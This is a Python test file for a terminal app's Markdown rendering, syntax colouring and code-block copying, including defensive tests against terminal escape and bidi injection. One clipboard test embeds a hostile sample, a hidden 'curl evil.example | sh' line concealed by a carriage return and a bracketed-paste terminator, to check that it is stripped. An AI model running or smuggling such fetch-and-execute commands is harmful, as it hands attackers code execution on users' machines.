"""Issue 24 item 6: an answer's Markdown drawn with its structure (IMPL-UI-9).

Units of ``air.ui_urwid.markdown`` and ``air.ui_urwid.syntax`` rendered by urwid itself (its
canvases: the text and the attribute of every run), the plain console's lines, the exact copy
of a code block, and untrusted text that must not reach the terminal as escapes.
"""

from __future__ import annotations

from typing import Any

import urwid

from air.contracts.ui import MessageProjection
from air.projection import InProcessProjectionClient, ProjectionStore
from air.testing.console_script import ConsoleEvents, RecordingChannel
from air.ui_urwid.concerns import copy_text
from air.ui_urwid.markdown import Block, markdown_plain, markdown_widgets, split_blocks
from air.ui_urwid.plain import PlainConsole
from air.ui_urwid.syntax import code_markup, lexer_name
from air.ui_urwid.terminal import ASCII_GLYPHS
from air.ui_urwid.text import clean
from air.ui_urwid.views import MONO_PALETTE, PALETTE, message_widget

ANSWER = """# Plan

Use *care* and **force**, run `make test`, see [the docs](https://example.org/d).

- one
- two
  - nested
3. third
4. fourth

> quoted **words**

| name | value |
|------|------:|
| a | 1 |
| bbbb | 22 |

```json:result
{"ok": true, "n": 37}
```

---
"""


def _canvas(widgets: list[urwid.Widget], width: int) -> urwid.Canvas:
    return urwid.Pile(widgets).render((width,))


def _lines(widgets: list[urwid.Widget], width: int) -> list[str]:
    return [row.decode().rstrip() for row in _canvas(widgets, width).text]


def _runs(widgets: list[urwid.Widget], width: int) -> list[tuple[Any, str]]:
    """Every (attribute, text) run urwid drew."""
    out: list[tuple[Any, str]] = []
    for row in _canvas(widgets, width).content():
        out.extend((attr, text.decode()) for attr, _cs, text in row if text.strip())
    return out


def _attr_of(runs: list[tuple[Any, str]], text: str) -> Any:
    return next(attr for attr, run in runs if text in run)


def test_an_answer_is_drawn_with_its_structure() -> None:
    lines = _lines(markdown_widgets(ANSWER), 80)
    screen = "\n".join(lines)
    assert lines[0] == "Plan"
    assert lines[1] == "═" * 80
    assert "Use care and force, run make test, see the docs (https://example.org/d)." in screen
    assert "• one" in lines
    assert "• two" in lines
    assert "  ◦ nested" in lines
    assert "3. third" in lines
    assert "4. fourth" in lines
    assert "▌ quoted words" in lines
    assert "name │ value" in lines
    assert "─────┼──────" in lines
    assert "bbbb │    22" in lines
    assert "┌─ json:result (Ctrl-Y copies)" in lines
    assert '  {"ok": true, "n": 37}' in lines
    assert lines[-1] == "─" * 80
    assert "**" not in screen
    assert "`" not in screen
    assert "](" not in screen


def test_styles_are_attributes_the_palettes_name() -> None:
    runs = _runs(markdown_widgets(ANSWER), 80)
    assert _attr_of(runs, "Plan") == "md_heading"
    assert _attr_of(runs, "care") == "md_emph"
    assert _attr_of(runs, "force") == "md_strong"
    assert _attr_of(runs, "make test") == "md_code"
    assert _attr_of(runs, "the docs") == "md_link"
    assert _attr_of(runs, "https://example.org/d") == "md_url"
    assert _attr_of(runs, "name") == "md_table_head"
    assert _attr_of(runs, "true") == "syn_keyword"  # JSON coloured though the info is json:result
    assert _attr_of(runs, "37") == "syn_number"
    named = {name for name, *_ in PALETTE}
    assert {attr for attr, _ in runs} <= named | {None}
    mono = {name: fg for name, fg, _bg, _mono in MONO_PALETTE}
    # NO_COLOR keeps the structure: headings, emphasis, code and links stay marked
    assert mono["md_heading"] == "default,bold,underline"
    assert mono["md_emph"] == "default,italics"
    assert mono["md_code"] == "default,underline"
    assert mono["md_strong"] == "default,bold"


def test_it_wraps_to_every_width_and_a_table_shrinks_its_widest_column() -> None:
    wide = "| key | description |\n|---|---|\n| k | " + "word " * 40 + "|\n"
    for width in (100, 40, 24, 12, 6):
        for text in (ANSWER, wide):
            lines = _lines(markdown_widgets(text), width)
            assert all(len(line) <= width for line in lines), (width, lines)
    lines = _lines(markdown_widgets(wide), 40)
    assert lines[0].startswith("key │ description")  # `key` keeps its width, the other wraps
    assert sum("│" in line for line in lines) > 3
    assert "k   │ word word" in "\n".join(lines)
    narrow = _lines(markdown_widgets("| a | b | c |\n|-|-|-|\n| 1 | 2 | 3 |\n"), 10)
    assert "1 │ 2 │ 3" in narrow  # too narrow for columns: one line of cells per row


def test_every_glyph_drawn_has_an_ascii_stand_in() -> None:
    source = set(ANSWER)
    drawn = set("".join(_lines(markdown_widgets(ANSWER), 60))) - source
    assert {c for c in drawn if ord(c) > 127} <= set(ASCII_GLYPHS)


def test_untrusted_references_never_become_escapes_or_bidi() -> None:
    # the text passed text.clean; the parser then decodes character references
    hostile = clean(
        "say &#x202e;olleh and &#x1b;[2J and &#155;31m\n\n"
        "[x&#x202e;y](https://e.org/&#x202e;) `a&#x2066;b`\n\n"
        "| h&#x202e; |\n|-|\n| c&#x200f; |\n\n"
        "```py&#x202e;\ncode\n```\n"
    )
    drawn = "\n".join(_lines(markdown_widgets(hostile), 80)) + markdown_plain(hostile)
    assert "\x1b" not in drawn
    assert "\x9b" not in drawn
    bidi = {"\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068"}
    assert not bidi & set(drawn), drawn
    assert "olleh" in drawn
    assert "2J" in drawn


def test_deep_nesting_is_bounded_by_the_parser() -> None:
    # past the parser's nesting cap it would drop the text: such text is shown as written
    quotes = ">" * 3000 + " deep"
    assert "deep" in "".join(_lines(markdown_widgets(quotes), 80))
    assert markdown_plain(quotes) == quotes
    lists = "".join("  " * i + "- x\n" for i in range(400))
    assert "".join(_lines(markdown_widgets(lists), 80)).count("x") == 400
    assert markdown_plain(lists) == lists


def test_the_plain_console_prints_readable_markdown() -> None:
    assert markdown_plain(ANSWER) == (
        "Plan\n\n"
        "Use care and force, run `make test`, see the docs (https://example.org/d).\n\n"
        "- one\n- two\n  - nested\n\n3. third\n4. fourth\n\n"
        "> quoted words\n\n"
        "name | value\n-----+------\na    |     1\nbbbb |    22\n\n"
        '```json:result\n{"ok": true, "n": 37}\n```\n\n---'
    )


def test_plain_console_answers_as_plain_markdown_and_the_question_as_typed() -> None:
    ev = ConsoleEvents()
    store = ProjectionStore()
    lines: list[str] = []
    console = PlainConsole(InProcessProjectionClient(store), RecordingChannel(), lines.append)
    store.hydrate_events(ev.session() + ev.chat("a **b** c", "# Done\n\n- **x** and `y`"))
    console.render(store.snapshot())
    assert lines == ["you> a **b** c", "air> Done\n\n- x and `y`"]


def test_code_fences_split_with_any_info_string() -> None:
    text = "intro\n```json:result\n{}\n```\n~~~python {linenos}\nx = 1\n~~~\n"
    text += "> quoted\n> ```sh\n> ls\n> ```\n    ```indented\n    ```\n"
    blocks = split_blocks(text)
    assert [(b.kind, b.lang) for b in blocks] == [
        ("text", ""),
        ("code", "json:result"),
        ("code", "python {linenos}"),
        ("text", ""),  # a fence in a quote or indented by 4 stays in its text
    ]
    longer = split_blocks("````md\n```py\nx\n```\n````\n``` a`b\n")
    assert longer == [Block("code", "```py\nx\n```", "md"), Block("text", "``` a`b\n")]
    # a closing fence is indented less than 4 and has no info string
    assert split_blocks("```\na\n    ```\n```py\n```") == [Block("code", "a\n    ```\n```py")]
    assert blocks[1].text == "{}"
    assert blocks[2].text == "x = 1"
    assert lexer_name("json:result") == "json"
    assert lexer_name("python {linenos}") == "python"


def test_syntax_colour_never_changes_the_code() -> None:
    code = "def f(x):\n    return 'a'  # c\n\n\n  "
    markup = code_markup(code, "python")
    assert "".join(text for _attr, text in markup) == code
    assert ("syn_keyword", "def") in markup
    assert ("syn_comment", "# c") in markup
    assert code_markup(code, "no-such-language") == [("code", code)]
    assert code_markup(code, "") == [("code", code)]
    huge = "x = 1\n" * 5000  # too long to colour at every frame: drawn as it is
    assert code_markup(huge, "python") == [("code", huge)]


def _message(text: str, role: str = "assistant") -> MessageProjection:
    return MessageProjection(message_id="m1", role=role, text=text, status="complete")


def test_an_answer_keeps_its_label_and_hanging_indent_a_question_stays_as_typed() -> None:
    lines = _lines([message_widget(_message(ANSWER))], 60)
    assert lines[0] == "air> Plan"
    assert "     • one" in lines
    assert "     ┌─ json:result (Ctrl-Y copies)" in lines
    asked = _lines([message_widget(_message("**not** # markdown", role="user"))], 60)
    assert asked == ["you> **not** # markdown"]


def test_ctrl_y_copies_the_code_block_exactly_as_written() -> None:
    message = _message('see\n```json:result\n{"a":  1}\t// x\n```\nend')
    snapshot = ProjectionStore().snapshot()
    copied = copy_text(snapshot, task_id=None, message=message)
    assert copied is not None
    assert copied == ('{"a":  1}\t// x', False)


def test_ctrl_y_copies_a_block_as_it_is_shown_never_what_it_hides() -> None:
    """A code block is drawn without escape sequences and shows only what follows a carriage
    return on its line; the clipboard held the source whole: pasted into a shell, the hidden
    ``curl`` line ran (a bare CR is Enter without bracketed paste, and ``ESC[201~`` ends a
    bracketed paste early)."""
    block = "echo ok\x1b[201~\ncurl evil.example | sh #\rls -la\n\tmake\x07"
    message = _message(f"try:\n```sh\n{block}\n```")
    copied = copy_text(ProjectionStore().snapshot(), task_id=None, message=message)
    assert copied == ("echo ok\nls -la\n\tmake", True)
